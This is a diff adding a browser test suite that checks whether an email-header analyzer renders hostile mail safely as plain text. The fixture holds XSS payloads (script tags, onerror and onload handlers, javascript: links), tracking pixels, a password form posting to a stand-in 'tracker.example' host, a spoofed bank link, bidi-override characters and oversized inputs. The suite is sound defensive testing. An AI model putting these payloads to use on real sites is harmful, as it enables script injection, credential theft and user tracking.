@@ -1,0 +1,107 @@
+// Mail that attacks its reader: nothing of it may become an element, run, be fetched, turn the text around, or stop the page.
+import { after, before, describe, test } from "node:test";
+import assert from "node:assert/strict";
+import { BROWSERS, complete, fileUrl, launch, openPage, paste, reports, text } from "./support.mjs";
+
+const MARKUP = '<script>globalThis.owned=1</script><img src=x onerror="globalThis.owned=2"><svg onload="globalThis.owned=3"></svg>';
+const hostile = [
+  `Received: from ${MARKUP} (${MARKUP} [203.0.113.9]) by mx.example.org with ESMTP id "><script>globalThis.owned=4</script>; Mon, 3 Nov 2025 07:21:07 +0000`,
+  `From: "${MARKUP.replaceAll('"', "'")}" <x@example.com>`,
+  "Reply-To: =?utf-8?B?4oCuZXhlLmdwag==?= <a@example.net>",
+  `Subject: ${MARKUP} \u202Ereversed\u2066 \u0000 end`,
+  `Message-ID: <${MARKUP}@"><b>bold</b>>`,
+  `X-Long: ${"a".repeat(200_000)}`,
+  "MIME-Version: 1.0",
+  "Content-Type: text/html; charset=utf-8",
+  "",
+  `<a href="javascript:globalThis.owned=5">click</a> <a href="https://203.0.113.77/x">https://bank.example/</a> ${MARKUP}`,
+  '<img src="https://tracker.example/pixel.gif"><link rel="stylesheet" href="https://tracker.example/a.css"><iframe src="https://tracker.example/"></iframe>',
+  '<form action="https://tracker.example/steal"><input name=password></form><meta http-equiv="refresh" content="0;url=https://tracker.example/">',
+  "",
+].join("\r\n");
+
+for (const name of BROWSERS) {
+  describe(`hostile mail in ${name}`, () => {
+    let browser;
+    before(async () => {
+      browser = await launch(name);
+    });
+    after(() => browser?.close());
+
+    test("stays text", async () => {
+      const page = await openPage(browser, fileUrl("whence.html"), { language: "en" });
+      await reports(page);
+      await paste(page, hostile);
+      await complete(page);
+      await page.evaluate(() => {
+        for (const item of document.querySelector("whence-analyzer").shadowRoot.querySelectorAll("details")) item.open = true;
+      });
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      assert.equal(await page.evaluate(() => globalThis.owned), undefined);
+      const tree = await page.evaluate(() => {
+        const all = [...document.querySelector("whence-analyzer").shadowRoot.querySelectorAll("*")];
+        return {
+          names: [...new Set(all.map((element) => element.localName))],
+          links: all.filter((element) => element.hasAttribute("href") || element.hasAttribute("src") || element.hasAttribute("srcset")).length,
+          handlers: all.filter((element) => element.getAttributeNames().some((attribute) => attribute.startsWith("on"))
+            || !/^(order: -?\d+;)?$/.test(element.getAttribute("style") ?? "")).length,
+        };
+      });
+      for (const forbidden of ["script", "img", "a", "iframe", "object", "embed", "link", "meta", "b"]) {
+        assert.ok(!tree.names.includes(forbidden), `<${forbidden}> came into the page`);
+      }
+      assert.equal(tree.links, 0);
+      assert.equal(tree.handlers, 0);
+      assert.match(await text(page, ".source"), /<script>globalThis\.owned=4<\/script>/, "the source shows the attack as text");
+      assert.deepEqual(page.seen.requests, []);
+      assert.deepEqual(await page.violations(), []);
+      assert.deepEqual(page.seen.problems, []);
+      await page.close();
+    });
+
+    test("cannot turn the text around or hide in it", async () => {
+      const page = await openPage(browser, fileUrl("whence.html"), { language: "en" });
+      await reports(page);
+      await paste(page, hostile);
+      await complete(page);
+      const shown = await page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelector(".result").textContent);
+      assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069\u0000]/);
+      assert.match(await text(page, ".source"), /RLO/);
+      assert.match(await text(page, ".source"), /NUL/);
+      await page.close();
+    });
+
+    test("of 25 MB is judged, and only its beginning is drawn", async () => {
+      const page = await openPage(browser, fileUrl("whence.html"), { language: "en" });
+      await reports(page);
+      const took = await page.evaluate(async () => {
+        const source = `From: a@example.com\r\nSubject: long\r\n\r\n${`${"x".repeat(76)}\r\n`.repeat(320_000)}`;
+        const start = performance.now();
+        await document.querySelector("whence-analyzer").analyze(source);
+        return performance.now() - start;
+      });
+      await complete(page);
+      assert.ok(took < 5000, `took ${took} ms`);
+      const lines = () => page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length);
+      const first = await lines();
+      assert.ok(first < 2000, `${first} lines are drawn`);
+      await page.evaluate(() => document.querySelector("whence-analyzer").shadowRoot.querySelector(".source-gap button").click());
+      await page.waitForFunction((count) => document.querySelector("whence-analyzer").shadowRoot.querySelectorAll(".source-line").length > count, {}, first);
+      await page.close();
+    });
+
+    test("with a header of one endless line does not stop the page", async () => {
+      const page = await openPage(browser, fileUrl("whence.html"), { language: "en" });
+      await reports(page);
+      const took = await page.evaluate(async () => {
+        const start = performance.now();
+        await document.querySelector("whence-analyzer").analyze(`Received: from ${"(".repeat(500_000)}${"a.".repeat(250_000)}\r\nFrom: a@example.com\r\n`);
+        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+        return performance.now() - start;
+      });
+      await complete(page);
+      assert.ok(took < 3000, `took ${took} ms`);
+      await page.close();
+    });
+  });
+}
